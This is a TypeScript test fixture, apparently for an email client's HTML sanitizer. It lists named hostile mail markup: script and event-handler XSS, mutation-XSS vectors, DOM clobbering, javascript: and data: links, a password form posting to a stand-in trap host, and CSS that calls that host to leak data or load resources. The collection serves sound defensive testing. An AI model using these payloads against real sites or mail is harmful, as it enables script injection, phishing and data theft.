/** Mails that try to do something: every family of mutation and of plain attack we know. `[name, markup]`. */

/** Where the real app would notice a visit: replaced by the address of a trap. */
export const TRAP = 'https://trap.invalid'

export const hostileMails: [string, string][] = [
  ['a script', `<script>fetch('${TRAP}/a')</script><script src="${TRAP}/a.js"></script>`],
  ['a handler of a picture', `<img src=x onerror="location='${TRAP}'">`],
  [
    'handlers of everything',
    '<body onload=alert(1)><div onclick=alert(1) onmouseover=alert(1)><details open ontoggle=alert(1)>',
  ],
  ['a script in svg', '<svg><script>alert(1)</script></svg><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>'],
  [
    'svg use of data',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  ],
  ['svg animating a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>'],
  [
    'math as a link',
    '<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'mutation by math and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mutation by nested forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mutation by svg and p', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mutation by a title in svg', '<svg><title><style><a id="</style><img src=x onerror=alert(1)>"></title></svg>'],
  ['mutation by desc and comment', '<svg><desc><noscript><!--</noscript><img src=x onerror=alert(1)>--></desc></svg>'],
  [
    'mutation by annotation-xml',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  [
    'mutation by cdata',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><math><![CDATA[x]]><style><![CDATA[</style><img src onerror=alert(1)>]]></math>',
  ],
  [
    'mutation by foreignObject',
    '<svg><foreignObject><math><mi/><style></math><img src=x onerror=alert(1)></style></foreignObject></svg>',
  ],
  ['mutation by select and template', '<select><template><style></select><img src=x onerror=alert(1)></style></template>'],
  [
    'mutation by xmp and plaintext',
    '<xmp></xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img onerror=alert(1) src=x&gt;</listing><plaintext><b>',
  ],
  [
    'mutation by noembed and noframes',
    '<noembed></noembed><img src=x onerror=alert(1)><noframes></noframes><img src=x onerror=alert(1)>',
  ],
  ['mutation by a textarea', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  [
    'mutation by deep nesting',
    `${'<div>'.repeat(600)}<table><caption><svg><title><table><svg><style><a id="</style><img src=x onerror=alert(1)>">`,
  ],
  [
    'mutation by a table',
    '<table><a><style></a></style><tr><td><form><input name=attributes></form></td></tr><svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg></table>',
  ],
  [
    'mutation by half a comment',
    '<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)><!- -><? <img src=x onerror=alert(1)> ?>',
  ],
  [
    'broken style',
    '<style>@media </style/><img src=x onerror=alert(1)></style><style><style/><img src=x onerror=alert(1)></style>',
  ],
  [
    'clobbering',
    '<form name=body><input name=firstChild><input id=parentNode name=attributes></form><img name=documentElement><a id=defaultView>',
  ],
  [
    'a refresh',
    `<meta http-equiv=refresh content="0;url=${TRAP}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  ],
  ['a base', `<base href="${TRAP}/"><a href="x">x</a><img src="x.png">`],
  [
    'a form',
    `<form action="${TRAP}" method=post><input name=password autofocus><button formaction="${TRAP}">Log in</button><input type=image src="${TRAP}/a"></form>`,
  ],
  [
    'frames',
    `<iframe src="${TRAP}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="${TRAP}"></frameset><portal src="${TRAP}"></portal>`,
  ],
  [
    'objects',
    `<object data="${TRAP}"></object><embed src="${TRAP}"><applet code=x></applet><object data="data:text/html,<script>alert(1)</script>"></object>`,
  ],
  [
    'players',
    `<video src="${TRAP}/v" poster="${TRAP}/p" autoplay></video><audio src="${TRAP}/a" autoplay></audio><video><source src=x onerror=alert(1)></video><track src="${TRAP}">`,
  ],
  [
    'links of programs',
    '<a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(1)">b</a><a href="&#1;javascript:alert(1)">c</a><a href="vbscript:x">d</a><a href="JaVaScRiPt&colon;alert(1)">e</a>',
  ],
  [
    'links of data',
    '<a href="data:text/html,<script>alert(1)</script>">a</a><a href="blob:app://window/x">b</a><a href="filesystem:x">c</a><img src="data:text/html,x"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ],
  [
    'links into ourselves',
    '<a href="app://window/index.html">a</a><a href="app://mail/x/link/0">b</a><img src="app://media/small/p/1/1/1"><a href="file:///etc/passwd">c</a><a href="perch://x">d</a><a href="link/99">e</a><img src="picture/99">',
  ],
  [
    'loading styles',
    `<link rel=stylesheet href="${TRAP}/a.css"><link rel=dns-prefetch href="${TRAP}"><link rel=preload as=image href="${TRAP}/a"><link rel=import href="${TRAP}">`,
  ],
  [
    'pictures in other places',
    `<img srcset="${TRAP}/a 2x"><picture><source srcset="${TRAP}/b"><img src=x></picture><table background="${TRAP}/c"><td background="${TRAP}/d">x</td></table><image href="${TRAP}/e">`,
  ],
  [
    'shadow roots',
    '<div><template shadowrootmode=open><script>alert(1)</script><slot onslotchange=alert(1)></slot></template></div><x-y is=z>w</x-y>',
  ],
  [
    'popovers and commands',
    '<button popovertarget=x popovertargetaction=show>x</button><div id=x popover onbeforetoggle=alert(1)>y</div><dialog open>z</dialog>',
  ],
  [
    'other parsers',
    '<?xml version="1.0"?><xml onload=alert(1)><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script></xml><%= 1 %>',
  ],
  ['half a tag', '<img src=x onerror=alert(1)//<a href="javascript:alert(1)" <b <i title="'],
  [
    'zeroes and odd letters',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)><IMG \u3000SRC=x ONERROR\u000b=alert(1)>',
  ],
]

/** What css may try; it stays in the mail, and the frame's policy stops it. */
export const hostileStyles: [string, string][] = [
  [
    'a picture by css',
    `<style>body{background:url(${TRAP}/css-1)}</style><p style="background-image:url('${TRAP}/css-2')">x</p>`,
  ],
  ['an import', `<style>@import url(${TRAP}/import.css); @import "${TRAP}/import-2.css";</style>`],
  ['a font', `<style>@font-face{font-family:x;src:url(${TRAP}/font)}p{font-family:x}</style><p>x</p>`],
  [
    'an image set',
    `<style>p{background:image-set(url(${TRAP}/set) 1x);cursor:url(${TRAP}/cursor),auto;list-style:url(${TRAP}/list)}</style><p>x</p>`,
  ],
  ['an overlay', '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Session ended. Log in</div>'],
  ['css that reads', `<style>a[href^="link"]{background:url(${TRAP}/read)}</style><a href="https://a.example">x</a>`],
]
